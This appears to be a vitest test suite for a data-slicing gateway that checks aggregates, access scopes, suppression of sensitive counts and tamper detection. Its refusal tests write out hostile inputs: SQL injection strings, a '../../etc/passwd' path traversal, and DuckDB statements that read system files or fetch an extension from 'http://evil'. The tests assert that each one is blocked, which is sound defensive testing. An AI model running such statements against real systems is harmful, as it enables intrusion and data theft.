import { appendFileSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { buildSchema, type ConstDirectiveNode, isObjectType, type OperationDefinitionNode, parse } from 'graphql';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { listingOf } from '../gateway/src/exports/listing.ts';
import { committedSupergraph } from '../gateway/src/platform.ts';
import { askFile } from '../gateway/src/slices/duck.ts';
import { LISTS } from '../gateway/src/slices/lists.ts';
import { MEDIA_TYPES, Readers } from './file.ts';
import { type Asking, COUNTY, type Platform, platform } from './kit.ts';

let p: Platform;
const readers = new Readers();
beforeAll(async () => {
  p = await platform();
});
afterAll(async () => {
  await readers[Symbol.asyncDispose]();
  await p[Symbol.asyncDispose]();
});

const DAY = '2018-12-31';
const folder = () => join(p.config.dataFolder, 'snapshots');

interface Answer {
  readonly status: number;
  readonly type: string | null;
  readonly bytes: Buffer;
  // biome-ignore lint/suspicious/noExplicitAny: a test states what it expects of the body
  readonly body: any;
}

async function post(path: string, body: unknown, asking: Asking = {}): Promise<Answer> {
  for (const list of Object.values(p.statements)) list.length = 0;
  const response = await fetch(`${p.origin}${path}`, {
    method: body === undefined ? 'GET' : 'POST',
    headers: {
      authorization: `Bearer ${await p.token(asking)}`,
      ...(body === undefined ? {} : { 'content-type': 'application/json' }),
      ...(asking.asOf ? { 'as-of': asking.asOf } : {}),
      ...asking.headers,
    },
    ...(body === undefined ? {} : { body: JSON.stringify(body) }),
  });
  const bytes = Buffer.from(await response.arrayBuffer());
  const type = response.headers.get('content-type')?.replace(/;.*/, '') ?? null;
  return { status: response.status, type, bytes, body: type?.includes('json') ? JSON.parse(bytes.toString()) : undefined };
}
const take = async (list: string, asking: Asking = {}): Promise<string> => {
  const { status, body } = await post('/slices/snapshots', { list }, { asOf: DAY, ...asking });
  expect(status, JSON.stringify(body)).toBe(201);
  return body.id;
};
const slice = (body: object, asking?: Asking) => post('/slices', body, asking);

describe('the lists that may be sliced', () => {
  const schema = buildSchema(committedSupergraph(), { assumeValid: true, assumeValidSDL: true });
  const argument = (directives: readonly ConstDirectiveNode[] | undefined): string | undefined => {
    const value = directives?.find((d) => d.name.value === 'dataClass')?.arguments?.find((a) => a.name.value === 'class')?.value;
    return value && 'value' in value ? String(value.value) : undefined;
  };
  it.each(Object.entries(LISTS))(
    '%s hold nothing that is masked for anybody, and say who stands behind outcomes',
    (_, { query, persons }) => {
      const document = parse(query);
      const listing = listingOf(
        schema,
        document,
        document.definitions[0] as OperationDefinitionNode,
        {},
        { headings: 'names', money: 'yuan' },
      );
      for (const { path, through = [] } of listing.columns) {
        expect(through.length, path).toBeGreaterThan(0);
        for (const source of through) {
          const [type, field] = source.split('.') as [string, string];
          const holder = schema.getType(type);
          const stated = isObjectType(holder) ? argument(holder.getFields()[field]?.astNode?.directives) : undefined;
          const stands = path === persons?.column ? [persons.dataClass] : ['PUBLIC'];
          expect([...stands, 'INTERNAL', undefined], source).toContain(stated);
        }
      }
      expect(persons !== undefined).toBe(listing.outcome);
      const columns = listing.columns.map((c) => c.path);
      for (const named of [persons?.column, persons?.where?.column]) expect([...columns, undefined]).toContain(named);
    },
  );
});

describe('a slice of a snapshot', () => {
  it('comes to what the graph comes to, by year and band, without asking any store', async () => {
    const id = await take('incomes');
    const { data } = await p.ask(
      '{ collectiveEconomyRecords { groupedAggregates(groupBy: [{ field: YEAR }, { field: BAND }]) { keys { year band } count sum { total } } } }',
      {},
      { asOf: DAY },
    );
    const groups = data.collectiveEconomyRecords.groupedAggregates as {
      keys: { year: number; band: string };
      count: number;
      sum: { total: number };
    }[];
    const { status, body } = await slice({
      snapshot: id,
      groupBy: [{ column: 'year' }, { column: 'band' }],
      measures: [{ of: 'COUNT' }, { of: 'SUM', column: 'total', name: 'total' }],
    });
    expect(status).toBe(200);
    expect(Object.values(p.statements).flat()).toEqual([]);
    const byName = (rows: readonly object[]) => rows.map((r) => JSON.stringify(r)).toSorted();
    expect(byName(body.rows)).toEqual(byName(groups.map((g) => ({ ...g.keys, count: g.count, total: g.sum.total / 100 }))));
    expect(body.groups).toBe(groups.length);
  });
  it('is filtered, spread out by a pivot, ordered, and comes as CSV with the headings of the schema', async () => {
    const id = await take('incomes');
    const asked = {
      snapshot: id,
      groupBy: [{ column: 'village.township.name' }],
      pivot: { column: 'year' },
      measures: [{ of: 'SUM', column: 'total', name: 'total' }],
      filter: {
        or: [{ year: { in: [2017, 2018] } }, { year: { gt: 2100 } }],
        total: { gte: 0.01 },
        not: { 'village.township.name': { contains: '玉泉' } },
      },
      orderBy: [{ by: '2018.total', direction: 'DESC' }],
    };
    const { body } = await slice(asked);
    expect(body.columns.map((c: { name: string }) => c.name)).toEqual(['village.township.name', '2017.total', '2018.total']);
    const of2018 = body.rows.map((r: Record<string, number>) => r['2018.total']);
    expect(of2018).toEqual([...of2018].sort((a, b) => b - a));
    expect(of2018.length).toBeGreaterThan(5);
    expect(JSON.stringify(body)).not.toContain('玉泉');
    const { data } = await p.ask(
      '{ collectiveEconomyRecords(filter: { year: { eq: 2018 } }) { aggregates { sum { total } } } }',
      {},
      { asOf: DAY },
    );
    const whole = await slice({
      snapshot: id,
      measures: [
        { of: 'SUM', column: 'total', name: 'total' },
        { of: 'AVG', column: 'total', name: 'mean' },
      ],
      filter: { year: { eq: 2018 } },
    });
    expect(whole.body.rows[0].total * 100).toBeCloseTo(data.collectiveEconomyRecords.aggregates.sum.total, 0);

    const csv = await slice(asked, { headers: { accept: MEDIA_TYPES.csv } });
    const [headings, ...rows] = (await readers.sql(
      csv.bytes,
      'csv',
      'select * from read_csv(FILE, header = false, all_varchar = true)',
    )) as string[][];
    expect(headings).toEqual(['村.所属乡镇.名称', '2017', '2018']);
    expect(rows.slice(0, -1).map((r) => Number(r[2]))).toEqual(of2018);
  });
  it('keeps back small cells of sensitive outcomes as the graph does, and tells them to whose duty the cases are', async () => {
    const query =
      '{ accountabilityActions { groupedAggregates(groupBy: [{ field: KIND }, { field: SUBJECT_TYPE }], first: 1000) { keys { kind subjectType } count } } }';
    const kept: number[] = [];
    const refused = await post('/slices/snapshots', { list: 'accountability' }, { role: 'INSPECTOR' });
    expect([refused.status, refused.body.rule, refused.body.dataClass]).toEqual([403, 'CLASS', 'SENSITIVE']);
    for (const role of ['INSPECTOR', 'DISCIPLINE']) {
      const asking = { role, headers: { purpose: 'CASE_HANDLING' } };
      const { data } = await p.ask(query, {}, { ...asking, asOf: DAY });
      const groups = data.accountabilityActions.groupedAggregates as {
        keys: { kind: string; subjectType: string };
        count: number | null;
      }[];
      const id = await take('accountability', asking);
      const { body } = await slice(
        {
          snapshot: id,
          groupBy: [{ column: 'kind' }, { column: 'subjectType' }],
          measures: [{ of: 'COUNT' }, { of: 'MAX', column: 'on', name: 'last' }],
        },
        asking,
      );
      const line = (kind: string, subject: string, count: number | null) => `${kind} ${subject} ${count}`;
      expect(
        body.rows.map((r: Record<string, never>) => line(r['kind'] as never, r['subjectType'] as never, r['count'] as never)).toSorted(),
      ).toEqual(groups.map((g) => line(g.keys.kind, g.keys.subjectType, g.count)).toSorted());
      for (const r of body.rows) expect(r.last === null).toBe(r.count === null);
      expect(body.keptBack).toBe(groups.filter((g) => g.count === null).length);
      kept.push(body.keptBack);
      expect((await slice({ snapshot: id, groupBy: [{ column: 'person.id' }] }, asking)).body.detail).toMatch(/no column person\.id/);
      const pivot = await slice({ snapshot: id, groupBy: [{ column: 'kind' }], pivot: { column: 'subjectType' } }, asking);
      expect(pivot.body.rows.flatMap((r: object) => Object.values(r)).filter((v: unknown) => v === null)).toHaveLength(body.keptBack);
    }
    expect(kept[0]).toBeGreaterThan(0);
    expect(kept[1]).toBe(0);
  });
});

describe('a snapshot', () => {
  it('holds what its taker may see, and is opened under the very same scope and duties alone', async () => {
    const township = { role: 'TOWNSHIP_ADMIN', divisions: ['140222102000'] };
    const id = await take('findings', township);
    const { data } = await p.ask('{ findings { totalCount } }', {}, { ...township, asOf: DAY });
    const count = async (asking: Asking) => (await slice({ snapshot: id }, asking)).body.rows?.[0]?.count;
    expect(await count(township)).toBe(data.findings.totalCount);
    expect(await count({ ...township, id: 'another person of the same desk' })).toBe(data.findings.totalCount);
    for (const other of [
      { role: 'TOWNSHIP_ADMIN', divisions: ['140222100000'] },
      { role: 'TOWNSHIP_ADMIN', divisions: ['140222102000', '140222100000'] },
      { role: 'ORG_DEPT', divisions: ['140222102000'] },
      { role: 'ORG_DEPT', divisions: [COUNTY] },
      { ...township, headers: { purpose: 'CONTACT' } },
    ]) {
      const refused = await slice({ snapshot: id }, other);
      expect([refused.status, refused.type, refused.body.code], JSON.stringify(other)).toEqual([
        404,
        'application/problem+json',
        'NOT_FOUND',
      ]);
      const own = (await post('/slices/snapshots', undefined, other)).body.snapshots.map((s: { id: string }) => s.id);
      expect(own).not.toContain(id);
    }
    expect((await post('/slices/snapshots', undefined, township)).body.snapshots.map((s: { id: string }) => s.id)).toContain(id);
    const remove = async (asking: Asking) =>
      (
        await fetch(`${p.origin}/slices/snapshots/${id}`, {
          method: 'DELETE',
          headers: { authorization: `Bearer ${await p.token(asking)}` },
        })
      ).status;
    expect(await remove({ role: 'ORG_DEPT' })).toBe(404);
    expect(await count(township)).toBe(data.findings.totalCount);
    expect(await remove(township)).toBe(204);
    expect((await slice({ snapshot: id }, township)).status).toBe(404);
    expect(readdirSync(folder()).filter((name) => name.startsWith(id))).toEqual([]);
  });
  it('that somebody has altered tells nothing', async () => {
    const id = await take('villages');
    const manifest = join(folder(), `${id}.json`);
    const signed = readFileSync(manifest, 'utf8');
    writeFileSync(manifest, signed.replace('"ANALYST"', '"INSPECTOR"'));
    expect((await slice({ snapshot: id }, { role: 'INSPECTOR' })).status).toBe(404);
    writeFileSync(manifest, signed);
    expect((await slice({ snapshot: id })).status).toBe(200);
    appendFileSync(join(folder(), `${id}.parquet`), 'x');
    const refused = await slice({ snapshot: id });
    expect([refused.status, refused.body.code]).toEqual([500, 'INTERNAL']);
    expect(JSON.stringify(refused.body)).not.toMatch(/sealed|parquet|\/tmp/);
  });
  it('leaves nothing behind when a store fails while it is taken, or its taker hangs up', async () => {
    const before = readdirSync(folder()).length;
    const store = p.running.subgraphs['poverty']?.store;
    if (!store) throw new Error('no store');
    const watch = store.onStatement;
    const office = { role: 'POVERTY_OFFICE' };
    let asked = 0;
    store.onStatement = (sql) => {
      if (/household_ref/.test(sql) && ++asked > 5) throw new Error('disk I/O error');
    };
    try {
      expect((await post('/slices/snapshots', { list: 'households' }, office)).status).toBe(500);
    } finally {
      store.onStatement = watch;
    }
    expect(readdirSync(folder())).toHaveLength(before);
    const gone = new AbortController();
    const hungUp = fetch(`${p.origin}/slices/snapshots`, {
      method: 'POST',
      headers: { 'content-type': 'application/json', authorization: `Bearer ${await p.token(office)}` },
      body: JSON.stringify({ list: 'households' }),
      signal: gone.signal,
    });
    setTimeout(() => gone.abort(), 100);
    await expect(hungUp).rejects.toThrow();
    await new Promise((resolve) => setTimeout(resolve, 400));
    expect(readdirSync(folder())).toHaveLength(before);
  });
});

describe('a slice is refused, and says what would be right,', () => {
  let id: string;
  beforeAll(async () => {
    id = await take('incomes');
  });
  it.each<[string, object, number, string, RegExp]>([
    ['of a column that there is not', { groupBy: [{ column: 'wealth' }] }, 400, 'BAD_USER_INPUT', /it has year, band/],
    [
      'of a name that would be a statement',
      { groupBy: [{ column: 'year" from snapshot; drop view snapshot --' }] },
      400,
      'BAD_USER_INPUT',
      /no column/,
    ],
    ['with a statement of its own', { sql: 'select 1' }, 400, 'BAD_USER_INPUT', /additional properties/],
    ['that sums up texts', { measures: [{ of: 'SUM', column: 'band' }] }, 400, 'BAD_USER_INPUT', /column of numbers/],
    ['that truncates what is no day', { groupBy: [{ column: 'year', truncate: 'MONTH' }] }, 400, 'BAD_USER_INPUT', /not a day/],
    ['that compares with what is no number', { filter: { total: { gt: '1 or 1=1' } } }, 400, 'BAD_USER_INPUT', /no decimal/],
    ['that compares in no known way', { filter: { total: { like: 1 } } }, 400, 'BAD_USER_INPUT', /can't be filtered by like/],
    [
      'with conditions in conditions without end',
      { filter: JSON.parse(`${'{"not":'.repeat(30)}{}${'}'.repeat(30)}`) },
      400,
      'LIMIT_EXCEEDED',
      /levels/,
    ],
    ['that spreads out more than can be read', { pivot: { column: 'village.code' } }, 400, 'LIMIT_EXCEEDED', /spreads out 200/],
    ['ordered by what it does not tell', { orderBy: [{ by: 'year' }] }, 400, 'BAD_USER_INPUT', /no column year to order by/],
    ['in a form that there is not', {}, 406, 'BAD_USER_INPUT', /text\/csv/],
    ['of a snapshot that there is not', { snapshot: '../../etc/passwd' }, 404, 'NOT_FOUND', /no snapshot/],
  ])('%s', async (_, body, status, code, message) => {
    const got = await slice({ snapshot: id, ...body }, status === 406 ? { headers: { accept: 'application/pdf' } } : {});
    expect([got.status, got.type, got.body.code], JSON.stringify(got.body)).toEqual([status, 'application/problem+json', code]);
    expect(got.body.detail).toMatch(message);
    expect(got.body.status).toBe(status);
  });
  it('as is a snapshot of a list that nobody agreed on, or of rows that the role is told counts of alone', async () => {
    expect((await post('/slices/snapshots', { list: 'persons' })).body).toMatchObject({ status: 400, code: 'BAD_USER_INPUT' });
    expect((await post('/slices/snapshots', { list: 'accountability' }, { role: 'ANALYST' })).body).toMatchObject({
      status: 403,
      code: 'FORBIDDEN',
    });
    expect((await post('/slices/snapshots', { list: 'villages' }, { headers: { authorization: 'Bearer x.y.z' } })).body).toMatchObject({
      status: 401,
    });
  });
  it('by DuckDB itself, should a statement ever get through: no other file, no network, no settings', async () => {
    const path = join(folder(), `${id}.parquet`);
    const run = (sql: string) => askFile(path, { sql, values: [], keys: [], measures: [] }, new AbortController().signal);
    expect(await run('select count(*) as persons from snapshot')).toHaveLength(1);
    for (const sql of [
      "select * from read_csv('/etc/passwd')",
      `select * from read_parquet('${path.replace('.parquet', '.json')}')`,
      `copy (select 1) to '${folder()}/x.csv'`,
      `attach '${folder()}/x.db'`,
      'set enable_external_access = true',
      "install httpfs from 'http://evil'",
      "select * from read_csv('https://example.com/x.csv')",
    ])
      await expect(run(sql), sql).rejects.toThrow();
  });
});
